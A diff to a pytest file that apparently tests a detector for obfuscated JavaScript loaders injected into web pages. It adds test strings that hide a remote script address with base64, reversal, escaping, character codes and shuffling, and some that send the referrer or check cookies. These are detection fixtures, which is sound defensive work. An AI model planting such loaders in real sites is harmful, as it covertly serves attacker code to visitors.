@@ -36,6 +36,20 @@ def loads(address: str) -> str:
     return f"var s={TAG};s.src={address};{ADD}"
 
 
+def escaped(text: str) -> str:
+    return "".join(f"%{ord(letter):02x}" for letter in text)
+
+
+def shuffled() -> str:
+    """Return a list of numbered pieces of the address, the even ones first."""
+    pieces = [f'[{n},"{URL[n * 4 : n * 4 + 4]}"]' for n in (0, 2, 4, 6, 1, 3, 5)]
+    return f"[{','.join(pieces)}]"
+
+
+def writes(address: str) -> str:
+    return f"document.write('<script src=\"'+{address}+'\"><\\/script>');"
+
+
 @pytest.mark.parametrize(
     ("source", "found"),
     [
@@ -70,6 +84,19 @@ def loads(address: str) -> str:
         (f"eval(atob('{b64(loads(repr(URL)))}'))", set()),
         (loads(f"atob('{b64(URL)[:9]}'+'{b64(URL)[9:]}')"), set()),
         (f"import({HIDDEN})", set()),
+        (loads(f"'{URL[::-1]}'.split('').reverse().join('')"), set()),
+        (loads(f"unescape(String.fromCharCode({codes(escaped(URL))}))"), {"layered"}),
+        # As texts in UTF-8 are written.
+        (loads(f"atob(unescape('{escaped(b64(URL))}'))"), set()),
+        # In HTML that is written as well.
+        (writes(HIDDEN), set()),
+        (writes(f"{HIDDEN}+'?'+Date.now()"), {"fresh"}),
+        (writes(f"{HIDDEN}+'?r='+document.referrer"), {"reports"}),
+        (writes(f"atob('{b64(URL)[::-1]}'.split('').reverse().join(''))"), {"layered"}),
+        (f"$('body').append('<iframe src=\"'+{HIDDEN}+'?'+Date.now()+'\">')", {"fresh"}),
+        (writes(HIDDEN).replace("'<", "'<p id=\"'+Date.now()+'\"></p><", 1), set()),
+        (writes(HIDDEN).replace("'<", "'<p>'+document.referrer+'</p><", 1), set()),
+        (loads(f"'https:'+atob('{b64(URL[6:])[::-1]}'.split('').reverse().join(''))"), {"layered"}),
         # A note by a name of chance.
         (f"if(!window['{HASH}']){{window['{HASH}']=1;{LOADS}}}", {"flagged"}),
         (f"var k='{HASH}';if(!self[k]){{self[k]=1;{LOADS}}}", {"flagged"}),
@@ -97,6 +124,8 @@ def loads(address: str) -> str:
         (loads(f"{HIDDEN}+'?d='+new Date().getDate()"), set()),
         (loads(f"{HIDDEN}+'?d='+new Date().toISOString().slice(0,10)"), set()),
         ("var mulai=Date.now();" + LOADS, set()),
+        (LOADS.replace(";document", ",t=Date.now();document"), set()),
+        (f"{LOADS}t=Date.now()", set()),
         # Letters that are worked out.
         (
             (
@@ -116,6 +145,9 @@ def loads(address: str) -> str:
             ),
             set(),
         ),
+        (f"var u=buka('{''.join(chr(ord(c) + 1) for c in URL)}');{loads('u')}", {"worked"}),
+        (f"var u=buka([{codes(URL)}]);{loads('u')}", set()),
+        (f"var p={shuffled()};{loads('tata(p)')}", {"worked"}),
         # What it looks for.
         (f"if(document.cookie.indexOf(atob('{b64('_ga7=')}'))<0){{{LOADS}}}", {"seeks"}),
         (f"if(location.hostname.indexOf(atob('{b64('jdih')}'))<0){{{LOADS}}}", set()),
@@ -134,6 +166,11 @@ def loads(address: str) -> str:
         ("eval(atob(d.dataset.a+d.dataset.b))", {"spread"}),
         ("eval(atob(['a','b'].map(function(k){return d.dataset[k]}).join('')))", {"spread"}),
         ("eval(atob(d.dataset.a))", set()),
+        ("eval(atob(d.dataset.a)+b+c)", set()),
+        ("eval(atob('x'+d.dataset.a))", set()),
+        ("eval(atob(d.dataset.a+'='))", set()),
+        # Of a script that hides nothing it is not asked.
+        ("if(!/wordpress_logged_in/.test(document.cookie))location='https://x.test/'", set()),
     ],
 )
 def test_what_a_script_does_that_it_be_not_found(source: str, found: set[str]) -> None:
@@ -156,6 +193,7 @@ def test_what_a_script_does_that_it_be_not_found(source: str, found: set[str]) -
         (loads(f"atob('{b64(URL + '?kunci=AB-1')}')"), False),
         (LOADS + MENU, False),
         (LOADS + "a=1;" * 60, False),
+        (f"eval(atob('{b64(LOADS)}'));" + "a=1;" * 60, False),
     ],
 )
 def test_a_script_that_does_nothing_else_and_says_nothing(source: str, *, is_bare: bool) -> None:
